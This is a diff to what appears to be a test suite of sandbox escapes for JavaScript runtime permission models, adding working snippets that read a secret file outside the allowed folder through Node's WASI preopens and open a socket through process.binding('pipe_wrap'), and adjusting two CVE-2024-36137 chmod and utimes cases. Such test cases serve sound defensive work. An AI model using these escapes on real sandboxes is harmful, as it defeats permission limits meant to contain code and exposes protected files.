@@ -5,7 +5,6 @@ import { escape, type Escape } from "../programs.ts";
 const MAIN = "a module that claims to be the program's start is part of the program";
 const WRITTEN = "what a program wrote is not part of the program";
 const DATA = "loaders of data read files themselves";
-const METADATA = "Landlock has no rules for metadata";
 const FILES_OF_RUNTIME = "files that the runtime writes for a program";
 
 export const doors: Escape[] = [
@@ -115,14 +114,12 @@ export const doors: Escape[] = [
     "CVE-2024-36137: fchmod of a file that may be read",
     "change",
     'const file = await fs.promises.open(inside + "/file.txt", "r"); await file.chmod(0o777)',
-    { notHeldBy: { kernel: METADATA } },
   ),
   escape(
     "a FileHandle that changes times",
     "CVE-2024-36137: futimes of a file that may be read",
     "change",
     'const file = await fs.promises.open(inside + "/file.txt", "r"); await file.utimes(1, 1)',
-    { notHeldBy: { kernel: METADATA } },
   ),
   escape(
     "a file of local storage",
@@ -239,5 +236,27 @@ export const doors: Escape[] = [
     {
       home: "deno",
     },
+  ),
+  escape(
+    "a folder of WASI",
+    "node's own WASI, whose preopened folders its permission model does not check",
+    "secret",
+    `
+    const { WASI } = require("node:wasi");
+    const wasi = new WASI({ version: "preview1", preopens: { "/o": outside } });
+    const memory = new WebAssembly.Memory({ initial: 1 });
+    wasi.initialize({ exports: { memory } });
+    const bytes = Buffer.from(memory.buffer), view = new DataView(memory.buffer);
+    bytes.write("secret.txt", 0);
+    wasi.wasiImport.path_open(3, 0, 0, 10, 0, 2n, 0n, 0, 100);
+    view.setUint32(200, 400, true); view.setUint32(204, 100, true);
+    wasi.wasiImport.fd_read(view.getUint32(100, true), 200, 1, 300);
+    say(bytes.toString("latin1", 400, 500))`,
+  ),
+  escape(
+    "a socket of process.binding",
+    "denoland/deno: pipe_wrap checked the file system and not the network",
+    "reached",
+    'const { Pipe, PipeConnectWrap } = process.binding("pipe_wrap"); const request = new PipeConnectWrap(); request.oncomplete = () => process.exit(0); new Pipe(0).connect(request, place.socket); await sleep(500)',
   ),
 ];
